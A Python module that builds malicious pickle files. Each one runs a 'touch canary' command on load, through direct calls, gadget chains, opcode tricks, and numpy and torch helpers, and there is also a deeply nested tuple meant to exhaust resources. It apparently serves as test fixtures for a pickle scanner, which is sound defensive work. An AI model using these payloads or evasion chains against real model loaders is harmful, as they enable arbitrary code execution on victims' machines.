"""Pickles that run code when an ordinary unpickler loads them: each makes a file "canary".

The canary is made in the current folder and nothing else is done. What is written here are the
known ways: direct calls, chains of harmless-looking helpers, names put together on the stack,
old instructions, and functions inside torch that unpickle once more.
"""

import io
import pickle
import struct
import warnings
import zipfile

CANARY = "canary"
COMMAND = "touch canary"
CODE = "open('canary', 'w').close()"


def text(value):
    """Return the instruction that pushes a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value):
    """Return the instruction that pushes bytes (protocol 3)."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module, attribute):
    """Return the instruction that pushes a class or function."""
    return f"c{module}\n{attribute}\n".encode()


def call(function, *args):
    """Return instructions that call a function, given by instructions, with such arguments."""
    return function + b"(" + b"".join(args) + b"tR"


def dtype(code, order="<"):
    """Return instructions that make a numpy dtype as numpy writes it."""
    state = (b"K\x03", text(order), *(3 * [b"N"]), *(2 * [b"J\xff\xff\xff\xff"]), b"K\x00")
    made = call(name("numpy", "dtype"), text(code), b"\x89", b"\x88")
    return made + b"(" + b"".join(state) + b"tb"


def array(state):
    """Return instructions that make a numpy array as numpy writes it, `state` setting its state."""
    sign = call(name("_codecs", "encode"), text("b"), text("latin1"))
    reconstruct = name("numpy.core.multiarray", "_reconstruct")
    return call(reconstruct, name("numpy", "ndarray"), b"K\x00\x85", sign) + state


def nested():
    """Return instructions that push a tuple which holds one tuple twice, and so on, 60 deep.

    To hash it or to write it out takes 2**60 steps.
    """
    twice = (b"q" + bytes([n]) + b"h" + bytes([n]) + b"\x86" for n in range(60))
    return b"K\x01" + b"".join(twice)


def program(body, protocol=2):
    """Return a whole pickle."""
    return b"\x80" + bytes([protocol]) + body + b"."


def gadgets():
    """Return {name: pickle}."""
    system = name("os", "system")
    direct = program(call(system, text(COMMAND)))
    partial = call(name("functools", "partial"), system, text(COMMAND))
    module = call(name("importlib", "import_module"), text("os"))
    getter = call(name("operator", "attrgetter"), text("system"))
    writer = call(name("operator", "methodcaller"), text("touch"))
    path = call(name("pathlib", "Path"), text(CANARY))
    mapped = call(name("builtins", "map"), system, b"]" + text(COMMAND) + b"a")
    run = call(system, text(COMMAND))
    device = name("torch._utils", "_rebuild_device_tensor_from_numpy")
    return {
        "os.system": direct,
        "posix.system": program(call(name("posix", "system"), text(COMMAND))),
        "eval": program(call(name("builtins", "eval"), text(CODE))),
        "exec": program(call(name("builtins", "exec"), text(CODE))),
        "Python 2 eval": program(call(name("__builtin__", "eval"), text(CODE))),
        "subprocess": program(
            call(name("subprocess", "call"), b"]" + text("touch") + b"a" + text(CANARY) + b"a")
        ),
        "functools.partial": program(partial + b")R"),
        "operator.attrgetter": program(call(getter, module) + b"(" + text(COMMAND) + b"tR"),
        "operator.methodcaller": program(call(writer, path)),
        "getattr": program(
            call(call(name("builtins", "getattr"), module, text("system")), text(COMMAND))
        ),
        "map": program(call(name("builtins", "list"), mapped)),
        "STACK_GLOBAL": program(text("os") + text("system") + b"\x93(" + text(COMMAND) + b"tR", 4),
        "STACK_GLOBAL from the memo": program(
            text("system") + b"q\x000" + text("os") + b"h\x00\x93(" + text(COMMAND) + b"tR", 4
        ),
        "dotted STACK_GLOBAL": program(
            text("os") + text("path.os.system") + b"\x93(" + text(COMMAND) + b"tR", 4
        ),
        "INST": b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n.",
        "OBJ": program(b"(" + system + text(COMMAND) + b"o"),
        "thrown away": program(call(system, text(COMMAND)) + b"0}"),
        "hidden in a dict": program(b"}" + text("w") + call(system, text(COMMAND)) + b"s"),
        "pickle in a pickle": program(call(name("pickle", "loads"), data(direct)), 3),
        "torch runs a command": program(
            call(name("torch.utils.collect_env", "run"), text(COMMAND))
        ),
        "torch loads bytes": program(
            call(name("torch.storage", "_load_from_bytes"), data(as_legacy(direct))), 3
        ),
        "numpy's array of objects": program(
            array(b"(K\x01K\x01\x85" + dtype("O8", "|") + b"\x89]" + run + b"atb")
        ),
        "numpy's array of another class": program(
            call(name("numpy.core.multiarray", "_reconstruct"), run, b"K\x00\x85", text("b"))
        ),
        "numpy's number": program(call(name("numpy.core.multiarray", "scalar"), dtype("i8"), run)),
        "numpy's dtype": program(call(name("numpy", "dtype"), run)),
        "the state of numpy's dtype": program(
            call(name("numpy", "dtype"), text("i8"), b"\x89", b"\x88") + run + b"b"
        ),
        "numpy's tests": program(
            call(name("numpy.testing._private.utils", "runstring"), text(CODE), b"}")
        ),
        "bytes in a codec": program(call(name("_codecs", "encode"), run, text("latin1"))),
        "torch's device": program(call(device, array(b""), name("torch", "float32"), run, b"\x89")),
        "torch loads a zip": program(
            call(name("torch.storage", "_load_from_bytes"), data(as_zip(direct))), 3
        ),
    }


def as_legacy(body):
    """Return a torch file from before 1.6 whose object is a pickle."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    parts = [0x1950A86A20F9469CFC6C, 1001, system]
    ends = [pickle.dumps(part, protocol=2) for part in parts]
    return b"".join(ends) + body + pickle.dumps([], protocol=2)


def as_zip(body, extra=()):
    """Return a torch file since 1.6 whose data.pkl is a pickle; `extra` are (name, bytes)."""
    given = {member for member, _ in extra}
    usual = [("byteorder", b"little"), ("version", b"3\n")]
    members = [("data.pkl", body), *extra, *(m for m in usual if m[0] not in given)]
    made = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(made, "w") as archive:
        warnings.simplefilter("ignore")  # that a name is there twice
        for member, content in members:
            # A fixed time: equal input gives equal bytes.
            archive.writestr(zipfile.ZipInfo(f"archive/{member}"), content)
    return made.getvalue()
